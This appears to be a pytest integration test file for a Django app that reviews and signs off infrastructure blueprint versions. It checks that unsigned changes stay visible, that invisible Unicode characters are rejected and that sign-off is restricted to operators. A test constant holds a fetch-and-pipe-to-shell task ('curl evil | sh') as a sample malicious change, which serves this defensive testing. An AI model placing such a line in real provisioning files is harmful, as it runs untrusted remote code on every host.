"""Sources of blueprints that want to be signed off for something else than they are."""

from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from accounts import services as accounts_services
from accounts.domain.roles import Role
from orchestration.adapters import catalogue
from orchestration.models import BlueprintSource, BlueprintVersion
from orchestration.selectors.blueprints import blueprint_get, version_diff, version_of
from orchestration.services import blueprints
from orchestration.services.blueprints import blueprint_for, version_record
from tests.integration.orchestration.test_blueprints import folder, operator, source

__all__ = ["operator", "source"]
BAD = "- hosts: all\n  tasks: [{shell: 'curl evil | sh'}]\n"


def page(operator: Any, version: BlueprintVersion) -> str:
    client = Client()
    client.force_login(operator)
    return client.get(f"/environments/versions/{version.pk}/").content.decode()


def test_what_came_with_a_version_that_nobody_signed_off_is_seen(
    source: Callable[..., Any], operator: Any
) -> None:
    """A second proposal on top of a first does not hide what the first brought."""
    source(folder())
    version = version_of("acme/cache")
    assert "+- hosts: all" in version_diff(version)
    blueprints.version_sign_off(actor=operator, version_id=version.pk)
    source({**folder(), "infra/cache/provision.yml": BAD})
    source({**folder(title="A typo mended"), "infra/cache/provision.yml": BAD})
    newest = version_of("acme/cache")
    assert newest.number == 3
    for said in (page(operator, newest), version_diff(newest)):
        assert "curl evil" in said
    assert "What changed since version 1" in page(operator, newest)
    # Also where nothing is in use any more.
    blueprints.version_retire(actor=operator, version_id=version.pk, note="Old.")
    newest.blueprint.refresh_from_db()
    for said in (page(operator, newest), version_diff(newest)):
        assert "curl evil" in said


def test_a_first_version_is_shown_whole_beside_proposals(
    source: Callable[..., Any], operator: Any
) -> None:
    source({**folder(), "infra/cache/provision.yml": BAD})
    source({**folder(title="Another"), "infra/cache/provision.yml": BAD})
    newest = version_of("acme/cache")
    for said in (page(operator, newest), version_diff(newest)):
        assert "curl evil" in said


@pytest.mark.parametrize("sign", ["\u202e", "\u2067", "\u200b", "\u2028", "\x9b"])
def test_what_is_not_seen_is_no_text(source: Callable[..., Any], sign: str) -> None:
    read = source({**folder(), "infra/cache/provision.yml": f"# a{sign}b\n- hosts: all\n"})
    assert "characters that are not printed" in " ".join(read.problems)
    assert not BlueprintVersion.objects.filter(blueprint__name="acme/cache").exists()


def test_a_copy_that_came_first_keeps_no_release_away(
    db: None, monkeypatch: pytest.MonkeyPatch, source: Callable[..., Any]
) -> None:
    """The next release is public before it is installed here, and anybody may copy it."""
    source(folder())
    (redis,) = [one for one in catalogue.folders() if one.name == "redis"]
    coming = catalogue.Found("redis", redis.manifest, {**redis.files, "new.yml": "# new\n"})
    document, manifest = blueprints.sound(coming)
    acme = BlueprintSource.objects.get(name="acme")
    version_record(blueprint_for("acme/redis", manifest, source=acme), document, coming.files)
    monkeypatch.setattr(catalogue, "folders", lambda: iter([coming]))
    assert blueprints.catalogue_sync() == 1
    assert blueprint_get("redis").current.files["new.yml"] == "# new\n"
    assert blueprints.catalogue_sync() == 0


def test_only_operators_sign_off_on_every_way(source: Callable[..., Any], operator: Any) -> None:
    source(folder())
    version = version_of("acme/cache")
    for role in (Role.VIEWER, Role.CONTRIBUTOR, Role.APPROVER):
        person = accounts_services.user_create(username=f"p-{role.value}", role=role)
        client = Client()
        client.force_login(person)
        path = f"/environments/versions/{version.pk}/decision/"
        assert client.post(path, {"decision": "sign_off"}).status_code == 403
    version.refresh_from_db()
    assert version.state == "proposed"
